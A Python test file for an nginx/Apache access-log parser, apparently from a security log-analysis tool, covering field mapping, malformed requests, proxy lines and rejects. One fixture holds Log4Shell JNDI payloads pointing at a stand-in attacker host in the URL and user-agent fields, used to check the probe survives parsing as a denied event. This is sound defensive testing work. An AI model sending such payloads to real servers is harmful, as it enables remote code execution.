"""NCSA combined/common access-log parser: fields, malformed requests, Log4Shell probes."""

from __future__ import annotations

from datetime import UTC, datetime

import polars as pl
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.boundary.parsers import ParseContext, detect_format, get_parser
from bastion.core.events import EVENT_SCHEMA, LINE_COLUMN

NGINX = get_parser("nginx").parse

COMBINED = (
    '127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif?a=1 HTTP/1.0" 200 2326 '
    '"http://www.example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)"'
)
COMMON = '198.51.100.4 - - [10/Oct/2000:13:55:36 +0000] "POST /login HTTP/1.1" 302 -'
LOG4SHELL = (
    '203.0.113.9 - - [10/Dec/2021:01:02:03 +0000] "GET /${jndi:ldap://x.y/a} HTTP/1.1" 403 0 '
    '"-" "${jndi:ldap://evil.example/b}"'
)
RAW_BYTES = (
    '203.0.113.9 - - [10/Dec/2021:01:02:03 +0000] "\\x16\\x03\\x01\\x00\\xa3\\x01" 400 157 "-" "-"'
)
DASH_REQUEST = '203.0.113.10 - - [10/Dec/2021:01:02:04 +0000] "-" 408 0 "-" "-"'


def parse(lines: list[str]):
    return NGINX(pl.Series(lines, dtype=pl.String), ParseContext())


def test_combined_line_maps_every_field() -> None:
    result = parse([COMBINED])
    assert result.rejects.height == 0
    assert result.events.columns == [*EVENT_SCHEMA, LINE_COLUMN]
    row = result.events.row(0, named=True)
    assert row["@timestamp"] == datetime(2000, 10, 10, 20, 55, 36, tzinfo=UTC)
    assert (row["event.dataset"], row["event.type"]) == ("nginx.access", None)
    assert (row["observer.vendor"], row["observer.product"]) == ("nginx", "nginx")
    assert row["source.ip"] == "127.0.0.1"
    assert (row["url.full"], row["url.path"]) == ("/apache_pb.gif?a=1", "/apache_pb.gif")
    assert (row["http.request.method"], row["http.response.status_code"]) == ("GET", 200)
    assert (row["destination.bytes"], row["network.protocol"]) == (2326, "http")
    assert row["user_agent.original"] == "Mozilla/4.08 [en] (Win98; I ;Nav)"
    assert row["event.original"] == COMBINED


def test_common_log_format_without_referer_and_agent() -> None:
    row = parse([COMMON]).events.row(0, named=True)
    assert (row["http.request.method"], row["http.response.status_code"]) == ("POST", 302)
    assert row["destination.bytes"] is None
    assert row["user_agent.original"] is None


def test_log4shell_probe_survives_intact_in_url_and_user_agent() -> None:
    row = parse([LOG4SHELL]).events.row(0, named=True)
    assert row["url.full"] == row["url.path"] == "/${jndi:ldap://x.y/a}"
    assert row["user_agent.original"] == "${jndi:ldap://evil.example/b}"
    assert row["event.type"] == "denied"  # 403: the server refused it


def test_malformed_request_lines_still_make_events() -> None:
    result = parse([RAW_BYTES, DASH_REQUEST])
    assert result.rejects.height == 0
    raw, dash = result.events.to_dicts()
    assert (raw["http.request.method"], raw["url.full"]) == (None, None)
    assert raw["http.response.status_code"] == 400
    assert raw["event.original"] == RAW_BYTES
    assert (dash["source.ip"], dash["http.response.status_code"]) == ("203.0.113.10", 408)


def test_proxy_forms_give_domain_and_port() -> None:
    lines = [
        '10.0.0.5 - - [10/Dec/2021:01:02:03 +0100] "GET http://Proxy.Example.NET:8080/x?y=1 HTTP/1.1" 200 10 "-" "a \\"quoted\\" ua"',
        '10.0.0.5 - - [10/Dec/2021:01:02:03 +0100] "CONNECT example.com:443 HTTP/1.1" 200 0 "-" "curl/8"',
    ]
    absolute, connect = parse(lines).events.to_dicts()
    assert (absolute["url.domain"], absolute["destination.port"], absolute["url.path"]) == (
        "proxy.example.net",
        8080,
        "/x",
    )
    assert absolute["user_agent.original"] == 'a "quoted" ua'
    assert absolute["@timestamp"] == datetime(2021, 12, 10, 0, 2, 3, tzinfo=UTC)
    assert (connect["url.domain"], connect["destination.port"], connect["url.full"]) == (
        "example.com",
        443,
        None,
    )


def test_bad_lines_are_rejected_with_reasons() -> None:
    lines = [
        "garbage line",
        '10.0.0.5 - - [99/Foo/2021:01:02:03 +0100] "GET / HTTP/1.1" 200 0',
        "",
    ]
    result = parse(lines)
    assert result.events.height == 0
    reasons = dict(result.rejects.iter_rows())
    assert reasons[0].startswith("nginx: not a combined or common log line")
    assert reasons[1] == "nginx: field 'time' is not like 10/Oct/2000:13:55:36 -0700"
    assert 2 not in reasons


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(alphabet='1.0 -[]"/GET:+ab\\', max_size=60), max_size=10))
def test_every_line_is_an_event_or_a_reject(lines: list[str]) -> None:
    result = parse(lines)
    seen = sorted([*result.events.get_column(LINE_COLUMN), *result.rejects.get_column(LINE_COLUMN)])
    assert seen == [i for i, line in enumerate(lines) if line.strip()]


def test_access_log_samples_are_detected_as_exactly_nginx() -> None:
    assert detect_format([COMBINED, LOG4SHELL, RAW_BYTES, DASH_REQUEST]).name == "nginx"
    assert detect_format([COMMON]).name == "nginx"
